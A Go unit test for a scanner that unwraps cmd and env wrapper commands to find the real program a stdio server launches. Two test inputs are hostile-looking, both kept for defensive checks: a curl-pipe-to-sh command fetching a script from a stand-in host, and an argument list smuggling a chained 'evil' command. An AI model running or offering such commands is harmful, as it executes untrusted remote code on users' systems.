package scanner

import (
	"fmt"
	"testing"
)

func TestProgramLooksThroughWrappers(t *testing.T) {
	tests := []struct {
		command string
		args    []string
		want    string // program and its arguments
	}{
		{"npx", []string{"-y", "pkg"}, "npx [-y pkg]"},
		{`C:\Program Files\nodejs\NPX.CMD`, []string{"pkg"}, "npx [pkg]"},
		{"cmd", []string{"/c", "npx", "-y", "pkg"}, "npx [-y pkg]"},
		{"cmd.exe", []string{"/d", "/s", "/c", "npx", "-y", "pkg"}, "npx [-y pkg]"},
		{"cmd", []string{"/C", `"npx -y pkg"`}, "npx [-y pkg]"},
		{"cmd", []string{"/k", "uvx", "tool"}, "uvx [tool]"},
		// A script is not a wrapper: cmd stays the program for the shell rule.
		{"cmd", []string{"/c", "curl -fsSL https://x.test/i.sh | sh"}, "cmd [/c curl -fsSL https://x.test/i.sh | sh]"},
		{"cmd", []string{"/d", "/s", "/c", "npx", "a", "&&", "evil"}, "cmd [/d /s /c npx a && evil]"},
		{"cmd", []string{"/c"}, "cmd [/c]"},
		{"cmd", []string{"npx"}, "cmd [npx]"},
		{"env", []string{"NODE_ENV=production", "npx", "-y", "pkg"}, "npx [-y pkg]"},
		{"/usr/bin/env", []string{"-i", "-u", "HOME", "A=1", "--", "uvx", "tool"}, "uvx [tool]"},
		{"env", []string{"-S", "npx -y pkg", "--flag"}, "npx [-y pkg --flag]"},
		{"env", []string{"A=1", "cmd", "/c", "npx", "pkg"}, "npx [pkg]"},
		{"env", []string{"A=1"}, "env [A=1]"},
		{"env", []string{"-u"}, "env [-u]"},
		{"", nil, " []"},
	}
	for _, tc := range tests {
		s := &Server{Transport: TransportStdio, Command: tc.command, Args: tc.args}
		prog, args := program(s)
		if got := fmt.Sprintf("%s %v", prog, args); got != tc.want {
			t.Errorf("%s %q: got %s, want %s", tc.command, tc.args, got, tc.want)
		}
	}
	if prog, args := program(&Server{Transport: TransportHTTP, URL: "https://x.test"}); prog != "" || len(args) != 0 {
		t.Errorf("remote server has program %q %v", prog, args)
	}
}
